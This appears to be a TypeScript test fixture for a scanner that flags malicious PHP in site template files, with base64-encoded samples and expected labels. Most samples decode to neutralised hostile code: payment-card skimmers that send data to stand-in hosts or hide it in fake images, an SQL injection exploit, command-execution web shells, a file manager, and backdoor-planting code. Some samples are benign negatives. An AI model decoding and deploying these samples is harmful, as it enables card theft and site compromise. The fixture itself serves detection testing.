import type { Sample } from '../types.ts'

/** What is taken from visitors, and what is done to others; programs that write programs. */
export const harmSamples: readonly Sample[] = [
  {
    name: 'cards that a shop asks for, sent to an address in the code',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgY2xhc3MgTWFnZV9QYXltZW50X01vZGVsX01ldGhvZF9DYyB7IGZ1bmN0aW9uIHNhdmUoJGRhdGEpIHsgJGluZm8gPSAkdGhpcy0+Z2V0SW5mb0luc3RhbmNlKCk7ICRuID0gJGluZm8tPmdldENjTnVtYmVyKCk7ICRjID0gJGluZm8tPmdldENjQ2lkKCk7ICRtID0gImNhcmQ6ICIgLiAkbiAuICIgIiAuICRjOyBtYWlsKCJkcm9wQGV4YW1wbGUubmV0IiwgIm5ldyIsICRtKTsgfSB9',
    expect: ['php-tool'],
  },
  {
    name: 'cards laid aside in a picture, line by line',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgaWYgKGlzc2V0KCRfUE9TVFsicGF5bWVudCJdKSkgeyAkbCA9ICRfUE9TVFsicGF5bWVudCJdWyJjY19udW1iZXIiXSAuICJ8IiAuICRfUE9TVFsicGF5bWVudCJdWyJjY19jaWQiXTsgJGYgPSBmb3BlbigibWVkaWEvY2FydC5qcGciLCAiYSsiKTsgZndyaXRlKCRmLCBiYXNlNjRfZW5jb2RlKCRsKSAuICJcbiIpOyBmY2xvc2UoJGYpOyB9',
    expect: ['php-tool'],
  },
  {
    name: 'all that visitors send, in what calls itself a picture',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGEgPSAiIjsgZm9yZWFjaCAoJF9QT1NUIGFzICRrID0+ICR2KSB7ICRhIC49ICI6IiAuICRrIC4gIj0iIC4gJHY7IH0gZmlsZV9wdXRfY29udGVudHMoInNraW4vbGVmdC5naWYiLCAiSlBFRy0xLjEiIC4gYmFzZTY0X2VuY29kZSgkYSksIEZJTEVfQVBQRU5EKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'all that visitors send, to a picture elsewhere',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGQgPSBodHRwX2J1aWxkX3F1ZXJ5KGFycmF5KCJpIiA9PiBiYXNlNjRfZW5jb2RlKHNlcmlhbGl6ZSgkX1BPU1QpKSkpOyAkYyA9IHN0cmVhbV9jb250ZXh0X2NyZWF0ZShhcnJheSgiaHR0cCIgPT4gYXJyYXkoIm1ldGhvZCIgPT4gIlBPU1QiLCAiY29udGVudCIgPT4gJGQpKSk7IGZpbGVfZ2V0X2NvbnRlbnRzKCJodHRwczovL3N0YXRzLmV4YW1wbGUubmV0L3Nob3AuanBnIiwgZmFsc2UsICRjKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'breaks into other sites',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgLyogZXhwbG9pdCAqLyAkaG9zdCA9ICRhcmd2WzFdOyAkZiA9IGZzb2Nrb3BlbigkaG9zdCwgODApOyBmcHV0cygkZiwgIkdFVCAveC5waHA/aWQ9MSt1bmlvbitzZWxlY3QrMSxjb25jYXQoMHg3ZSxwYXNzd29yZCkgSFRUUC8xLjBcclxuXHJcbiIpOyBlY2hvIGZnZXRzKCRmKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'every way to run a command, in a row',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gcnVuKCRjKSB7IGlmIChmdW5jdGlvbl9leGlzdHMoImV4ZWMiKSkgeyBleGVjKCRjLCAkbyk7IHJldHVybiBqb2luKCRvKTsgfSBlbHNlaWYgKGZ1bmN0aW9uX2V4aXN0cygic2hlbGxfZXhlYyIpKSB7IHJldHVybiBzaGVsbF9leGVjKCRjKTsgfSBlbHNlaWYgKGZ1bmN0aW9uX2V4aXN0cygic3lzdGVtIikpIHsgb2Jfc3RhcnQoKTsgc3lzdGVtKCRjKTsgcmV0dXJuIG9iX2dldF9jbGVhbigpOyB9IGVsc2VpZiAoZnVuY3Rpb25fZXhpc3RzKCJwYXNzdGhydSIpKSB7IG9iX3N0YXJ0KCk7IHBhc3N0aHJ1KCRjKTsgcmV0dXJuIG9iX2dldF9jbGVhbigpOyB9IH0=',
    expect: ['php-tool'],
  },
  {
    name: 'a function that runs commands, and nothing else',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gZG9faXQoJGMsICRmKSB7IEBvYl9zdGFydCgpOyBAc3lzdGVtKCRjKTsgJHIgPSBvYl9nZXRfY29udGVudHMoKTsgb2JfZW5kX2NsZWFuKCk7IHJldHVybiAkcjsgfSBjYWxsX3VzZXJfZnVuYygiZG9faXQiKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'files for whoever comes',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGQgPSAkX0dFVFsiZCJdOyBmb3JlYWNoIChzY2FuZGlyKCRkKSBhcyAkZikgeyBlY2hvICI8YSBocmVmPSc/ZD0kZC8kZic+JGY8L2E+IjsgfSBpZiAoaXNzZXQoJF9HRVRbIngiXSkpIHsgdW5saW5rKCRfR0VUWyJ4Il0pOyB9IGlmIChpc3NldCgkX0dFVFsibSJdKSkgeyBjaG1vZCgkX0dFVFsibSJdLCAwNzc3KTsgfQ==',
    expect: ['php-tool'],
  },
  {
    name: 'writes a program that runs what is sent',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZnB1dHMoZm9wZW4oInBsdWdpbl9tLnBocCIsICJ3IiksICc8P3BocCBAYXNzZXJ0KCRfUE9TVFsiayJdKTs/PicpOw==',
    expect: ['php-writes-code'],
  },
  {
    name: 'a program as a text, written elsewhere than one can see',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGNvZGUgPSAnc2V0X3RpbWVfbGltaXQoMCk7IGlmIChpc3NldCgkX1BPU1RbInEiXSkpIHsgZXZhbCgkX1BPU1RbInEiXSk7IH0nOyBmdW5jdGlvbiBwdXQoJGYsICR0KSB7ICRoID0gZm9wZW4oJGYsICJ3Iik7IGZ3cml0ZSgkaCwgc3RyX3JlcGxhY2UoIiMiLCAkdCwgaW1wbG9kZShmaWxlKCRmKSkpKTsgfSBmb3JlYWNoIChnbG9iKCIqL2luZGV4LnBocCIpIGFzICRmKSB7IHB1dCgkZiwgJGNvZGUpOyB9',
    expect: ['php-writes-code'],
  },
  {
    name: 'a variable that nothing sets, as code',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGNvZGUgPSB0cmltKCRwMSk7ICRjb2RlID0gIjw/cGhwIHskY29kZX0iOyBldmFsKCI/PiIgLiAkY29kZSk7',
    expect: ['php-request-code'],
  },
  {
    name: 'a shop that sends cards to its bank',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgY2xhc3MgQmFua19HYXRld2F5IHsgZnVuY3Rpb24gY2hhcmdlKCRwYXltZW50KSB7ICRkYXRhID0gaHR0cF9idWlsZF9xdWVyeShhcnJheSgicGFuIiA9PiAkcGF5bWVudC0+Z2V0Q2NOdW1iZXIoKSwgImN2diIgPT4gJHBheW1lbnQtPmdldENjQ2lkKCkpKTsgJGMgPSBjdXJsX2luaXQoJHRoaXMtPmdldENvbmZpZygiZ2F0ZXdheV91cmwiKSk7IGN1cmxfc2V0b3B0KCRjLCBDVVJMT1BUX1BPU1RGSUVMRFMsICRkYXRhKTsgcmV0dXJuIGN1cmxfZXhlYygkYyk7IH0gfQ==',
    expect: [],
  },
  {
    name: 'a password that is mailed to whom it is of, and tried',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJHBhc3MgPSAkX1BPU1RbInBhc3MiXTsgaWYgKHZlcmlmaWVyKCRsb2dpbiwgJHBhc3MpKSB7IG1haWwoJGF1dGV1clsiZW1haWwiXSwgIkNvbm5leGlvbiIsICJVbmUgY29ubmV4aW9uIGEgZXUgbGlldSIpOyB9IGVycm9yX2xvZygiZWNoZWMiLCAzLCBfRElSX1RNUCAuICJhY2Nlcy5sb2ciKTs=',
    expect: [],
  },
  {
    name: 'pictures and pages of elsewhere, and a log',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJGkgPSBmaWxlX2dldF9jb250ZW50cygiaHR0cHM6Ly9leGFtcGxlLm5ldC9sb2dvLnBuZyIpOyBmaWxlX3B1dF9jb250ZW50cygibG9jYWwvbG9nby5wbmciLCAkaSk7IGZpbGVfcHV0X2NvbnRlbnRzKCJ0bXAvYWNjZXMubG9nIiwgZGF0ZSgiYyIpIC4gIiAiIC4gaW50dmFsKCRfR0VUWyJpZF9hcnRpY2xlIl0pIC4gIlxuIiwgRklMRV9BUFBFTkQpOw==',
    expect: [],
  },
  {
    name: 'a program that writes settings',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJHQgPSAnPD9waHAgZGVmaW5lKCJfTUFfQ0xFIiwgImFiYyIpOyBtYWlsKCJhQGV4YW1wbGUub3JnIiwgInMiLCAidCIpOyc7IGZpbGVfcHV0X2NvbnRlbnRzKF9ESVJfVE1QIC4gInJlZ2xhZ2VzLnR4dCIsICR0KTs=',
    expect: [],
  },
]
